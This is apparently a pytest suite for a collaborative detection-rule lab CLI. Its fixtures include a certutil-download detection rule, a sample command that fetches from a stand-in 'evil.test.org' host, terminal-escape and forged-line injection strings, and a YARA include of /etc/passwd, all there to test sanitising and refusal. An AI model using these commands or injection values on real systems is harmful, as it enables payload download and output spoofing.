"""`p2pshare lab`: keys, exit codes, who may, what leaves and what stays, files out, hostile text."""

from __future__ import annotations

import hashlib
import io
import json
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import click
import pytest
from command_line import Home, Said, found_pair
from shared_spaces import hand_over, held, partners
from stand_in_engine import hit_the_words
from whole_nodes import NOW, World, quiet

from p2pshare.cli import lab as lab_command
from p2pshare.cli import lab_trials, session, space_verbs
from p2pshare.errors import AuthorError
from p2pshare.node.node import Node
from p2pshare.operations.crossing import checked, fields_of
from p2pshare.operations.interface import Request
from p2pshare.operations.labs import PutInLab, SayInLab
from p2pshare.spaces.lab_entries import LabRun, RuleVersion, encode_lab

HOSTILE = "a\n\x1b[2J\x07\u202etxt.exe<script>|\u2028"
RULE = """title: Download by certutil
id: e011a729-98a6-4139-b5c4-bf6f6dd8239a
status: test
author: Alice Example
license: DRL-1.1
logsource: {category: process_creation, product: windows}
detection:
  selection: {Image|endswith: certutil.exe, CommandLine|contains: urlcache}
  condition: selection
level: medium
tags: [attack.command-and-control, attack.t1105, attack.t1059.001]
"""
POSITIVE = '{"Image": "C:\\\\certutil.exe", "CommandLine": "certutil -urlcache -f http://evil.test.org"}'
NEGATIVE = '{"Image": "C:\\\\notepad.exe", "CommandLine": "notepad"}'
YARA = 'rule Evil { meta: author = "Bob" strings: $a = "evil" condition: $a }\n'


class Daemon:
    """A session with a node in this process, as the daemon's is: the tests of the socket are elsewhere."""

    is_daemon = True

    def __init__(self, node: Node) -> None:
        self._node = node

    def run(self, request: Request[Any], progress: object = None) -> Any:
        session._require_text(fields_of(request))
        return checked(request).run(self._node, NOW, quiet)


class Three:
    """alpha, bravo and charlie, partners whose daemons run in this process, and a lab of theirs that alpha leads."""

    def __init__(
        self, nodes: list[Node], folder: Path, capture: pytest.CaptureFixture[str], patch: pytest.MonkeyPatch
    ) -> None:
        self.nodes = {node.config.name: node for node in nodes}
        self.homes = {name: Home(node.home, capture, patch) for name, node in self.nodes.items()}
        by_home = {node.home: node for node in nodes}
        self.folder = folder

        @contextmanager
        def connect(home: Path) -> Iterator[Daemon]:
            yield Daemon(by_home[home])

        patch.setattr(space_verbs, "connect", connect)
        for module in (space_verbs, lab_command):
            patch.setattr(module, "is_running", lambda home: True)
        invited = ("--invite", "bravo", "--invite", "charlie")
        opened = self.json(
            "alpha", "open", "--title", "Certutil", "--question", "who downloads by it?", *invited
        )
        assert opened.keys() == {"lab", "space", "members", "entry"}
        self.id: str = opened["lab"]
        self.meet()
        for name in ("bravo", "charlie"):
            self.json(name, "join", self.id[:8])
        self.meet()
        self.file("rule.yml", RULE)
        self.file("positive.json", POSITIVE)
        self.file("negative.json", NEGATIVE)

    def file(self, name: str, text: str | bytes) -> str:
        path = self.folder / name
        path.write_bytes(text.encode() if isinstance(text, str) else text)
        return str(path)

    def __call__(self, name: str, *words: str) -> Said:
        return self.homes[name]("lab", *(self.named(word) for word in words))

    def named(self, word: str) -> str:
        if word == "ID":
            return self.id
        return str(self.folder / word) if (self.folder / word).is_file() else word

    def json(self, name: str, *words: str) -> Any:
        said = self(name, *words, "--json")
        assert said.code == 0, said
        return json.loads(said.out)

    def wrote(self, name: str, *words: str) -> Any:
        found = self.json(name, *words)
        self.meet()
        return found

    def status(self, name: str = "alpha") -> dict[str, Any]:
        found: dict[str, Any] = self.json(name, "status", "ID")
        return found

    def meet(self) -> None:
        for _ in range(2):
            for name in self.nodes:
                others = [node for other, node in self.nodes.items() if other != name]
                hand_over(self.id, self.nodes[name], *others, now=NOW)

    def told_a_run(self, name: str, rule_hash: str) -> None:
        """A run as an engine would have found it."""
        run = LabRun(bytes.fromhex(rule_hash), bytes(32), "sigma", 1, 0, 0, 1, 5, 0, 2, 1)
        SayInLab(self.id, "run", encode_lab(run)).run(self.nodes[name], NOW, quiet)
        self.meet()

    def bodies(self, name: str) -> bytes:
        return b"".join(entry.content() for entry in held(self.nodes[name], self.id) if entry.body_fits())


@pytest.fixture(scope="module")
def nodes(tmp_path_factory: pytest.TempPathFactory) -> Iterator[list[Node]]:
    world = World(tmp_path_factory.mktemp("labs"))
    yield partners(world, "alpha", "bravo", "charlie")
    world.close()


@pytest.fixture
def three(
    nodes: list[Node], tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> Three:
    return Three(nodes, tmp_path, capsys, monkeypatch)


def test_a_rule_moves_to_test_by_two_others_and_back_with_one_byte(three: Three) -> None:
    added = three.wrote("alpha", "rule", "add", "ID", "rule.yml")
    assert (added["author"], added["licence"], added["title"]) == (
        "Alice Example",
        "DRL-1.1",
        "Download by certutil",
    )
    [rule] = three.status("charlie")["rules"]
    assert {"rule", "hash", "status", "reviews", "runs", "field", "missing"} <= rule.keys()
    assert (rule["status"], rule["level"], rule["techniques"]) == (
        "experimental",
        "medium",
        ["t1059.001", "t1105"],
    )
    assert {one["what"] for one in rule["missing"]} == {"agreement", "independent-run"}
    for name in ("bravo", "charlie"):
        three.wrote(name, "review", "ID", rule["rule"][:8], "--agree", "-m", "seen it")
    three.told_a_run("bravo", rule["hash"])
    for name in three.nodes:
        assert [one["status"] for one in three.status(name)["rules"]] == ["test"]
    shown = three("charlie", "status", "ID")
    assert "Alice Example, DRL-1.1" in shown.out and "tp 1 fn 0 fp 0 tn 1" in shown.out
    canonical = {three(name, "show", "ID", "--canonical").out for name in three.nodes}
    assert len(canonical) == 1, "byte for byte"
    refused = three("alpha", "promote", "ID", rule["rule"][:8])
    assert refused.code == 5 and "missing: to be promoted, at " in refused.out and "too early" in refused.err
    three.file("rule.yml", RULE + "\n")
    three.wrote("alpha", "rule", "revise", "ID", "rule.yml", "-m", "one byte")
    for name in three.nodes:
        [changed] = three.status(name)["rules"]
        assert changed["rule"] == rule["rule"] and changed["hash"] != rule["hash"]
        assert (changed["status"], changed["reviews"], changed["runs"]) == ("experimental", [], [])
        assert len(changed["versions"]) == 2


def test_a_rule_without_licence_is_refused_unless_a_person_names_one(three: Three) -> None:
    three.file("bare.yml", RULE.replace("license: DRL-1.1\n", ""))
    refused = three("alpha", "rule", "add", "ID", "bare.yml")
    assert refused.code == 5 and "--licence" in refused.err
    assert three.status()["rules"] == []
    assert (
        three.wrote("alpha", "rule", "add", "ID", "bare.yml", "--licence", "DRL-1.1")["licence"] == "DRL-1.1"
    )
    three.file("nobody.yml", RULE.replace("author: Alice Example\n", "").replace("e011a729", "e011a720"))
    assert three("alpha", "rule", "add", "ID", "nobody.yml").code == 5
    other = three("alpha", "rule", "add", "ID", "rule.yml", "--licence", "MIT")
    assert other.code == 2 and "names its licence itself" in other.err
    assert three("alpha", "rule", "add", "ID", "bare.yml", "--licence", "DRL-1.1").code == 1, (
        "it is here already"
    )


def test_another_proposes_the_author_adopts_and_who_may_not_is_told_who_may(three: Three) -> None:
    rule = three.wrote("alpha", "rule", "add", "ID", "rule.yml")
    better = three.file("better.yml", RULE.replace("urlcache", "verifyctl"))
    refused = three("bravo", "rule", "revise", "ID", better)
    assert refused.code == 5 and "its author, alpha, revises it, others propose" in refused.err
    three.file("thief.yml", RULE.replace("Alice Example", "Mallory"))
    dropped = three("bravo", "rule", "propose", "ID", "thief.yml")
    assert dropped.code == 5 and "drops the author" in dropped.err
    assert three("bravo", "deprecate", "ID", rule["entry"][:8]).code == 5
    proposed = three.wrote("bravo", "rule", "propose", "ID", "better.yml", "-m", "catches more")
    refused = three("charlie", "rule", "adopt", "ID", "better.yml")
    assert refused.code == 5 and "alpha" in refused.err
    assert "catches more" in three("charlie", "status", "ID").out
    three.wrote("alpha", "rule", "adopt", "ID", "better.yml")
    assert three.status("bravo")["rules"][0]["hash"] == proposed["hash"]
    three.wrote("alpha", "deprecate", "ID", rule["entry"][:8], "-m", "noisy")
    assert three.status("bravo")["rules"][0]["status"] == "deprecated"


def test_what_a_sample_holds_leaves_only_when_a_person_says_so(three: Three) -> None:
    kept = three.wrote(
        "alpha", "sample", "add", "ID", "positive.json", "--positive", "--origin", "a workstation"
    )
    assert not kept["with_content"] and b"certutil -urlcache" not in three.bodies("bravo")
    own = three.json("bravo", "sample", "add", "ID", "negative.json", "--negative", "--local")
    three.meet()
    assert own["entry"] is None and bytes.fromhex(own["sha256"]) not in three.bodies("bravo"), (
        "not even its hash"
    )
    sent = three.wrote("bravo", "sample", "add", "ID", "negative.json", "--negative", "--with-content")
    [positive, negative] = three.status("charlie")["samples"]
    assert (positive["has_content"], positive["is_here"], positive["origin"]) == (
        False,
        False,
        "a workstation",
    )
    assert (negative["has_content"], negative["is_here"], negative["label"]) == (True, True, "negative")
    target = three.folder / "fetched"
    assert three("charlie", "fetch", "ID", sent["sha256"][:8], "-o", str(target)).code == 0
    assert target.read_text() == NEGATIVE
    home = three.nodes["alpha"].home / "samples" / three.id
    assert {path.name for path in home.iterdir()} == {kept["sha256"], f"{kept['sha256']}.json"}
    assert home.stat().st_mode & 0o777 == 0o700
    three.wrote("alpha", "sample", "remove", "ID", kept["sha256"][:8])
    assert len(three.status()["samples"]) == 1 and list(home.iterdir()) == []


def test_what_is_marked_strictly_names_the_members_of_now_as_its_readers(three: Three) -> None:
    sent = three.wrote(
        "alpha",
        "sample",
        "add",
        "ID",
        "positive.json",
        "--positive",
        "--with-content",
        "--tlp",
        "amber+strict",
    )
    parts = [one for one in held(three.nodes["bravo"], three.id) if one.header.kind == "part"]
    assert [len(one.header.audience) for one in parts] == [3] and parts[0].header.tlp == 3
    target = three.folder / "fetched"
    assert three("bravo", "fetch", "ID", sent["sha256"][:8], "-o", str(target)).code == 0
    strict = three.json(
        "alpha", "open", "--title", "s", "--question", "q", "--tlp", "amber+strict", "--invite", "bravo"
    )
    assert three("alpha", "rule", "add", strict["lab"], "rule.yml").code == 0
    assert three("alpha", "note", strict["lab"], "hello").code == 0
    [rule] = three.json("alpha", "status", strict["lab"])["rules"]
    assert rule["is_here"]


def test_malware_never_travels(three: Three) -> None:
    three.file("evil.bin", b"MZ" + bytes(200))
    refused = three("alpha", "sample", "add", "ID", "evil.bin", "--positive", "--with-content")
    assert refused.code == 5 and "its hash alone" in refused.err
    disguised = three(
        "alpha", "sample", "add", "ID", "evil.bin", "--positive", "--with-content", "--kind", "event-json"
    )
    assert disguised.code == 5
    three.file("odd.bin", b"\x00\x01" * 100)
    odd = three(
        "alpha", "sample", "add", "ID", "odd.bin", "--positive", "--with-content", "--kind", "event-json"
    )
    assert odd.code == 5 and "does not begin as" in odd.err
    assert three.status()["samples"] == []
    assert three.wrote("alpha", "sample", "add", "ID", "evil.bin", "--positive")["kind"] == "file"


def test_figures_of_the_field_leave_in_buckets(three: Three) -> None:
    rule = three.wrote("alpha", "rule", "add", "ID", "rule.yml")["hash"]
    three.wrote(
        "bravo",
        "field",
        "ID",
        rule[:8],
        "--hits",
        "37",
        "--confirmed",
        "7",
        "--benign",
        "2",
        "--window",
        "30d",
    )
    [figure] = three.status()["rules"][0]["field"]
    assert (figure["hits"], figure["confirmed"], figure["benign"]) == ("37", "5-9", "1-4")
    assert figure["organisation"] == three.nodes["bravo"].identity.partner_id.text
    assert (
        three(
            "bravo",
            "field",
            "ID",
            rule[:8],
            "--hits",
            "1",
            "--confirmed",
            "1",
            "--benign",
            "1",
            "--window",
            "1d",
        ).code
        == 2
    )
    for window in ("0d", "soon", "2027-03-01T00:00:00Z/2027-02-01T00:00:00Z"):
        said = three(
            "bravo",
            "field",
            "ID",
            rule[:8],
            "--hits",
            "1",
            "--confirmed",
            "0",
            "--benign",
            "0",
            "--window",
            window,
        )
        assert said.code == 2, window


def test_a_remedy_is_reviewed_like_a_rule(three: Three) -> None:
    csaf = three.file("advisory.json", json.dumps({"document": {"csaf_version": "2.0", "title": "t"}}))
    added = three.wrote(
        "alpha", "remedy", "add", "ID", csaf, "--title", "Close the port", "--mends", "CVE-2026-1234"
    )
    for name in ("bravo", "charlie"):
        three.wrote(name, "review", "ID", added["entry"][:8], "--agree")
    [remedy] = three.status("charlie")["remedies"]
    assert (remedy["kind"], remedy["status"], remedy["vulnerabilities"]) == (
        "csaf",
        "reviewed",
        ["CVE-2026-1234"],
    )


def test_an_export_has_author_and_licence_of_each_rule(three: Three) -> None:
    three.wrote("alpha", "rule", "add", "ID", "rule.yml")
    three.file("evil.yar", YARA)
    three.wrote("bravo", "rule", "add", "ID", "evil.yar", "--licence", HOSTILE)
    nothing = three("alpha", "export", "ID")
    assert nothing.code == 3 and "stable" in nothing.err
    for name in ("sigma", "yara"):
        file = three.folder / f"rules.{name}"
        assert (
            three(
                "charlie", "export", "ID", "--format", name, "--status", "experimental", "-o", str(file)
            ).code
            == 0
        )
        text = file.read_text()
        author = "Alice Example" if name == "sigma" else "Bob"
        assert f"author: {author}\n" in text and "licence: " in text
        assert all(line.startswith("//") or "\x1b" not in line for line in text.split("\n"))
    assert (three.folder / "rules.sigma").read_text().endswith(RULE)
    made = [three.folder / one for one in ("one.zip", "two.zip")]
    for file in made:
        assert (
            three(
                "charlie", "export", "ID", "--format", "zip", "--status", "experimental", "-o", str(file)
            ).code
            == 0
        )
    assert made[0].read_bytes() == made[1].read_bytes()
    with zipfile.ZipFile(io.BytesIO(made[0].read_bytes())) as archive:
        assert len(archive.namelist()) == 3 and archive.read(archive.namelist()[0]) == RULE.encode()
        assert "Alice Example,DRL-1.1," in archive.read("RULES.csv").decode()


def test_of_two_rules_of_one_name_and_of_what_is_no_rule_the_export_says_so(three: Three) -> None:
    three.file("evil.yar", YARA)
    three.file("evil2.yar", YARA + "// another\n")
    for name in ("evil.yar", "evil2.yar"):
        three.wrote("alpha", "rule", "add", "ID", name, "--licence", "MIT")
    file = three.folder / "rules.yar"
    said = three("alpha", "export", "ID", "--format", "yara", "--status", "experimental", "-o", str(file))
    assert said.code == 6 and "1 rule, " in said.err and "same-name" in said.err
    assert file.read_text().count("rule Evil") == 1
    odd = b'include "/etc/passwd"\n'
    version = RuleVersion(b"", "yara", hashlib.sha256(odd).digest(), len(odd), "odd", "a", "b", "", (), "")
    PutInLab(three.id, "rule", encode_lab(version), odd).run(three.nodes["bravo"], NOW, quiet)
    three.meet()
    said = three("alpha", "export", "ID", "--format", "yara", "--status", "experimental", "-o", str(file))
    assert "includes" in said.err and b"passwd" not in file.read_bytes()


def test_a_text_that_two_added_at_once_is_exported_once(three: Three) -> None:
    for name in ("alpha", "bravo"):
        three.json(name, "rule", "add", "ID", "rule.yml")
    three.meet()
    file = three.folder / "rules.zip"
    words = ("--format", "zip", "--status", "experimental", "-o", str(file))
    said = three("charlie", "export", "ID", *words)
    assert said.code == 0 and "1 rule, " in said.err
    with zipfile.ZipFile(file) as archive:
        assert len(archive.namelist()) == 2, "the rule, and the list"


def test_without_a_lab_it_is_unknown_and_among_several_ambiguous_with_candidates(
    three: Three, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    three.json("alpha", "open", "--title", "Second", "--question", "what else?")
    several = three("alpha", "status", "--json")
    told = json.loads(several.err)["error"]
    assert (several.code, told["reason"]) == (2, "ambiguous") and "its id comes first: " in told["hint"]
    home = found_pair(tmp_path / "pair", capsys, monkeypatch)["alpha"]
    for command in ("status", "test"):
        none = home("lab", command, "--json")
        told = json.loads(none.err)["error"]
        assert (none.code, told["reason"]) == (3, "not-found") and "`p2pshare lab open`" in told["hint"]


@pytest.mark.parametrize("name", ["splunk", "elastic"])
def test_without_a_backend_no_query_is_written_and_its_package_is_named(three: Three, name: str) -> None:
    three.wrote("alpha", "rule", "add", "ID", "rule.yml")
    file = three.folder / "queries"
    said = three("alpha", "export", "ID", "--format", name, "--status", "experimental", "-o", str(file))
    assert said.code == 1 and f"pysigma-backend-{name}" in said.err and not file.exists()


@pytest.mark.parametrize(
    ("words", "code"),
    [
        (("rule", "add", "ID", "positive.json", "--licence", "MIT"), 1),
        (("rule", "add", "ID", "no-such-file.yml"), 1),
        (("rule", "revise", "ID", "rule.yml"), 2),
        (("rule", "adopt", "ID", "abcdef12"), 3),
        (("review", "ID", "abcdef12", "--agree"), 3),
        (("review", "ID", "x", "--agree"), 3),
        (("test", "ID", "No rule of this title"), 3),
        (("review", "ID", "abcdef12"), 2),
        (("sample", "add", "ID", "positive.json"), 2),
        (("sample", "add", "ID", "positive.json", "--positive", "--local", "--with-content"), 2),
        (("sample", "remove", "ID", "abcdef12"), 3),
        (("promote", "ID", "abcdef12"), 3),
        (("status", "000000"), 3),
        (("export", "ID", "--format", "pdf"), 2),
    ],
)
def test_what_is_typed_wrongly_writes_nothing(three: Three, words: tuple[str, ...], code: int) -> None:
    before = len(held(three.nodes["alpha"], three.id))
    said = three("alpha", *words)
    assert said.code == code, said
    assert len(held(three.nodes["alpha"], three.id)) == before


def test_several_that_begin_alike_are_named(three: Three) -> None:
    for number in range(2):
        three.file("same.yml", RULE + f"# {number}\n")
        three.wrote("alpha", "rule", "add", "ID", "same.yml")
    said = three("alpha", "review", "ID", "Download by certutil", "--agree")
    assert said.code == 2 and all(rule["hash"] in said.err for rule in three.status()["rules"])
    three.file("third.yml", RULE + "# 3\n")
    assert three("alpha", "rule", "revise", "ID", "third.yml").code == 2


def test_hostile_text_moves_no_terminal(three: Three) -> None:
    three.file(
        "hostile.yml",
        RULE.replace("Download by certutil", json.dumps(HOSTILE)).replace(
            "Alice Example", json.dumps(HOSTILE)
        ),
    )
    three.wrote("bravo", "rule", "add", "ID", "hostile.yml", "-m", HOSTILE, "--licence", "DRL-1.1")
    three.wrote("bravo", "sample", "add", "ID", "positive.json", "--positive", "--origin", HOSTILE)
    three.wrote("bravo", "note", "ID", HOSTILE)
    rule = three.status()["rules"][0]["rule"]
    three.wrote("bravo", "review", "ID", rule[:8], "--disagree", "-m", HOSTILE)
    for words in (("show", "ID"), ("status", "ID"), ("list",), ("promote", "ID", rule[:8], "--dry-run")):
        said = three("alpha", *words)
        assert said.code == 0 and not {"\x1b", "\x07", "\u202e", "\u2028"} & set(said.out + said.err), words
    for option in ("--origin", "--rule", "--tlp", "--kind"):
        said = three("alpha", "sample", "add", "ID", "positive.json", "--negative", option, HOSTILE)
        assert not {"\x1b", "\x07", "\u202e", "\u2028"} & set(said.out + said.err), option


def test_a_lab_is_listed_closed_and_told_by_the_lead_alone(three: Three) -> None:
    [listed] = [one for one in three.json("bravo", "list") if one["lab"] == three.id]
    assert (listed["lead"], listed["role"], listed["status"], listed["question"]) == (
        "alpha", "joined", "open", "who downloads by it?",
    )  # fmt: skip
    refused = three("bravo", "close", "ID")
    assert refused.code == 5 and "its lead may: alpha" in refused.err
    three.wrote("alpha", "close", "ID", "--text", "found")
    assert three.status("charlie")["status"] == "closed"


@pytest.fixture
def engine(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(lab_trials, "run_trial", hit_the_words)


def test_all_is_what_the_lab_names_and_own_what_is_ours(three: Three, engine: None) -> None:
    three.wrote("alpha", "rule", "add", "ID", "rule.yml")
    three.wrote("alpha", "sample", "add", "ID", "positive.json", "--positive", "--with-content")
    three.wrote("alpha", "sample", "add", "ID", "negative.json", "--negative", "--with-content")
    three.file("log.json", POSITIVE + "\n")
    three.file("told.json", NEGATIVE + "\n")
    three.wrote("bravo", "sample", "add", "ID", "log.json", "--negative", "--local")
    three.wrote("bravo", "sample", "add", "ID", "told.json", "--negative")
    ran = [three.wrote(name, "test", "ID") for name in ("alpha", "bravo", "charlie")]
    assert ran[0].keys() >= {
        "rule",
        "rule_hash",
        "sample_set",
        "engine",
        "tp",
        "fn",
        "fp",
        "tn",
        "ms",
        "errors",
    }
    assert ran[0]["sample_set"] == ran[2]["sample_set"] != ran[1]["sample_set"], (
        "bravo alone has one that it told of"
    )
    assert [(one["tp"], one["fn"], one["fp"], one["tn"], one["not_here"]) for one in ran] == [
        (1, 0, 0, 1, 1), (1, 0, 0, 2, 0), (1, 0, 0, 1, 1),
    ]  # fmt: skip
    [match] = ran[1]["matches"]
    assert (match["label"], match["hits"], match["author"], match["licence"]) == (
        "positive",
        1,
        "Alice Example",
        "DRL-1.1",
    )
    own = three.wrote("bravo", "test", "ID", "--samples", "own")
    assert (own["tp"], own["fp"], own["tn"]) == (0, 1, 1)
    assert len(three.status("charlie")["rules"][0]["runs"]) == 4, "each with each set of samples"
    assert b"certutil -urlcache" not in three.bodies("charlie").replace(POSITIVE.encode(), b"")


def test_a_lab_and_a_rule_are_told_apart_and_a_run_is_told_only_when_it_may_be(
    three: Three, engine: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    rule = three.wrote("alpha", "rule", "add", "ID", "rule.yml")
    assert three("alpha", "test", "ID").code == 3, "nothing to try it on"
    three.wrote("alpha", "sample", "add", "ID", "positive.json", "--positive")
    assert three("charlie", "test", "ID").code == 3, "and its content is not there"
    for words in (
        ("ID",),
        ("ID", rule["hash"][:8]),
        ("ID", "Download by certutil"),
        ("ID", rule["entry"][:8]),
    ):
        assert three.json("alpha", "test", *words, "--dry-run")["rule"] == rule["entry"]
    assert three.json("alpha", "test", "ID", "--dry-run")["entry"] is None
    monkeypatch.setattr(lab_command, "_only_open", lambda home: three.id)
    assert three.json("alpha", "test", rule["hash"][:8], "--dry-run")["rule_hash"] == rule["hash"]
    assert three.json("alpha", "test", "--dry-run")["rule_hash"] == rule["hash"]
    monkeypatch.setattr(lab_command, "is_running", lambda home: False)
    assert three("alpha", "test", "ID").code == 4
    three.file(
        "et.rules", '# author: Dan\n# licence: MIT\nalert http any any -> any any (msg:"evil"; sid:1;)\n'
    )
    network = three.wrote("alpha", "rule", "add", "ID", "et.rules")
    said = three("alpha", "test", "ID", network["hash"][:8], "--dry-run")
    assert said.code == 3 and "no engine runs suricata" in said.err


def test_a_run_that_failed_is_told_to_nobody(three: Three, monkeypatch: pytest.MonkeyPatch) -> None:
    three.wrote("alpha", "rule", "add", "ID", "rule.yml")
    three.wrote("alpha", "sample", "add", "ID", "positive.json", "--positive")

    def end(_: object) -> None:
        raise AuthorError("the rule was ended after 10 s", reason="rule-too-slow")

    monkeypatch.setattr(lab_trials, "run_trial", end)
    said = three("alpha", "test", "ID")
    assert said.code == 1 and "10 s" in said.err
    assert three.status()["rules"][0]["runs"] == []


HOSTILE_VALUES = (
    HOSTILE,
    "a\nFORGED-LINE",
    "\udcff",
    "-1",
    "9" * 400,
    "",
)


def commands_of(
    group: click.Group, path: tuple[str, ...] = ()
) -> Iterator[tuple[tuple[str, ...], click.Command]]:
    for name, command in group.commands.items():
        if isinstance(command, click.Group):
            yield from commands_of(command, (*path, name))
        elif command not in space_verbs.VERBS:
            yield (*path, name), command


def test_no_value_of_any_option_or_argument_moves_a_terminal_or_is_a_bug(
    three: Three, engine: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each option and each argument of each command of labs is handed each hostile value, the others what is right."""
    monkeypatch.chdir(three.folder)
    rule = three.wrote("alpha", "rule", "add", "ID", "rule.yml")["entry"]
    good = {
        "lab_id": three.id, "first": three.id, "second": rule, "rule": rule, "what": rule, "proposal": rule, "sample": rule,
        "file": "rule.yml", "text": "why", "title": "t", "question": "q", "hits": "1", "confirmed": "0", "benign": "0", "window": "1d",
    }  # fmt: skip
    tried = 0
    for path, command in commands_of(lab_command.lab):
        for hostile in command.params:
            if isinstance(hostile, click.Option) and hostile.is_flag:
                continue
            for value in HOSTILE_VALUES:
                options, arguments = ["--yes"] if any(one.name == "yes" for one in command.params) else [], []
                for one in command.params:
                    given = value if one is hostile else good.get(str(one.name))
                    if isinstance(one, click.Argument):
                        arguments.append(str(given))
                    elif given is not None and not one.is_flag and (one is hostile or one.required):
                        options += [one.opts[0], given]
                said = three.homes["alpha"]("lab", *path, *options, "--", *arguments)
                tried += 1
                assert "a bug of p2pshare" not in said.err, (path, hostile.name, value, said.err)
                shown = set(said.out + said.err)
                assert not {"\x1b", "\x07", "\u202e", "\u2028", "\udcff"} & shown, (path, hostile.name, value)
                assert not any(line.startswith("FORGED") for line in (said.out + said.err).split("\n")), path
    assert tried > 400


def test_a_yara_rule_is_tried_in_the_cage_on_a_file_that_never_left(three: Three) -> None:
    three.file("evil.yar", YARA)
    rule = three.wrote("alpha", "rule", "add", "ID", "evil.yar", "--licence", "MIT")
    three.file("dropper.bin", b"MZ" + bytes(100) + b"evil")
    three.file("clean.bin", b"MZ" + bytes(100))
    three.wrote("alpha", "sample", "add", "ID", "dropper.bin", "--positive")
    three.wrote("alpha", "sample", "add", "ID", "clean.bin", "--negative")
    ran = three.wrote("alpha", "test", "ID", rule["hash"][:8])
    assert [ran[key] for key in ("tp", "fn", "fp", "tn", "errors")] == [1, 0, 0, 1, 0]
    assert "yara-x" in ran["engine"] and "seccomp" in ran["engine"], "which walls stood is told"
    [match] = ran["matches"]
    assert (match["author"], match["licence"]) == ("Bob", "MIT")
    assert b"evil\x00" not in three.bodies("bravo") and bytes(100) not in three.bodies("bravo")
    with_time = 'import "time" rule Now { meta: author = "a" license = "b" condition: time.now() > 0 }'
    three.file("now.yar", with_time)
    now = three.wrote("alpha", "rule", "add", "ID", "now.yar")
    said = three("alpha", "test", "ID", now["hash"][:8])
    assert said.code == 5 and "a module that is closed" in said.err, (
        "a rule that asks the clock is refused, and told"
    )
